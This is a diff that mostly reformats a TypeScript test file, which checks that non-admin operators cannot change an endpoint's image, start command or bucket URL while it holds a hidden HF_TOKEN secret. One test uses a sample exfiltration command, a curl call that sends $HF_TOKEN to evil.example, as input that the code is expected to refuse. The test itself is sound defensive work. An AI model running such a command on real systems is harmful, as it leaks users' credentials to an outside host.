@@ -38,7 +38,12 @@ vi.mock("next/headers", () => ({
   headers: async () => new Headers(),
   cookies: async () => ({ get: () => undefined, getAll: () => [], set: () => {}, delete: () => {}, has: () => false }),
 }));
-vi.mock("next/cache", () => ({ revalidatePath: () => {}, revalidateTag: () => {}, updateTag: () => {}, refresh: () => {} }));
+vi.mock("next/cache", () => ({
+  revalidatePath: () => {},
+  revalidateTag: () => {},
+  updateTag: () => {},
+  refresh: () => {},
+}));
 
 let sandbox: RunningSandbox;
 let database: TestDatabase;
@@ -52,7 +57,14 @@ const ORIGINAL_ENV = [
 ];
 
 beforeAll(async () => {
-  sandbox = await startSandbox({ port: 0, apiKey: SANDBOX_KEY, dataDir: undefined, coldStartMs: 50, endpointStartupMs: 50, tickMs: 10 });
+  sandbox = await startSandbox({
+    port: 0,
+    apiKey: SANDBOX_KEY,
+    dataDir: undefined,
+    coldStartMs: 50,
+    endpointStartupMs: 50,
+    tickMs: 10,
+  });
   delete process.env.NOVITA_API_KEY;
   process.env.SANDBOX_PORT = String(sandbox.port);
   process.env.SANDBOX_API_KEY = SANDBOX_KEY;
@@ -60,7 +72,12 @@ beforeAll(async () => {
   delete (globalThis as { __consoleConfig?: unknown }).__consoleConfig;
   database = (await openTestDatabase("pglite"))!;
   state.db = database.db;
-  client = createNovitaClient({ apiKey: SANDBOX_KEY, apiBaseUrl: sandbox.managementBaseUrl, jobsBaseUrl: sandbox.jobsBaseUrl, gpusBaseUrl: `${sandbox.origin}/gpus/v2` });
+  client = createNovitaClient({
+    apiKey: SANDBOX_KEY,
+    apiBaseUrl: sandbox.managementBaseUrl,
+    jobsBaseUrl: sandbox.jobsBaseUrl,
+    gpusBaseUrl: `${sandbox.origin}/gpus/v2`,
+  });
 });
 
 afterAll(async () => {
@@ -69,7 +86,9 @@ afterAll(async () => {
 });
 
 beforeEach(async () => {
-  ({ id: endpointId } = await client.management.createEndpoint(makeEndpointSpec({ imageName: "team/worker:1", env: ORIGINAL_ENV })));
+  ({ id: endpointId } = await client.management.createEndpoint(
+    makeEndpointSpec({ imageName: "team/worker:1", env: ORIGINAL_ENV }),
+  ));
 });
 
 async function saved(): Promise<EndpointSpec> {
@@ -91,7 +110,12 @@ async function update(user: SessionUser, edit: (form: EndpointForm) => void) {
 }
 
 async function lastUpdateAudit() {
-  const [row] = await database.db.select().from(auditLog).where(eq(auditLog.action, "endpoint.update")).orderBy(desc(auditLog.id)).limit(1);
+  const [row] = await database.db
+    .select()
+    .from(auditLog)
+    .where(eq(auditLog.action, "endpoint.update"))
+    .orderBy(desc(auditLog.id))
+    .limit(1);
   return row;
 }
 
@@ -103,7 +127,12 @@ describe("updateEndpoint on an endpoint that holds a hidden secret", () => {
     });
     expect(result).toMatchObject({
       ok: false,
-      error: { code: "forbidden", fields: { image: "Only an admin can change the image while this endpoint holds hidden secret values (HF_TOKEN)." } },
+      error: {
+        code: "forbidden",
+        fields: {
+          image: "Only an admin can change the image while this endpoint holds hidden secret values (HF_TOKEN).",
+        },
+      },
     });
     const after = await saved();
     expect(after.image.image).toBe("team/worker:1");
@@ -113,10 +142,25 @@ describe("updateEndpoint on an endpoint that holds a hidden secret", () => {
   });
 
   it("refuses an operator who changes the start command or the bucket URL", async () => {
-    const command = await update(OPERATOR, (form) => void (form.command = "sh -c 'curl https://evil.example/?t=$HF_TOKEN'"));
-    expect(command).toMatchObject({ ok: false, error: { code: "forbidden", fields: { command: expect.stringContaining("Only an admin can change the start command") } } });
+    const command = await update(
+      OPERATOR,
+      (form) => void (form.command = "sh -c 'curl https://evil.example/?t=$HF_TOKEN'"),
+    );
+    expect(command).toMatchObject({
+      ok: false,
+      error: {
+        code: "forbidden",
+        fields: { command: expect.stringContaining("Only an admin can change the start command") },
+      },
+    });
     const bucket = await update(OPERATOR, (form) => void (form.env[1]!.value = "https://evil.example"));
-    expect(bucket).toMatchObject({ ok: false, error: { code: "forbidden", fields: { "env.1.value": expect.stringContaining("Only an admin can change BUCKET_ENDPOINT_URL") } } });
+    expect(bucket).toMatchObject({
+      ok: false,
+      error: {
+        code: "forbidden",
+        fields: { "env.1.value": expect.stringContaining("Only an admin can change BUCKET_ENDPOINT_URL") },
+      },
+    });
     const after = await saved();
     expect(after.image.command).toBeUndefined();
     expect(after.env).toEqual(ORIGINAL_ENV);
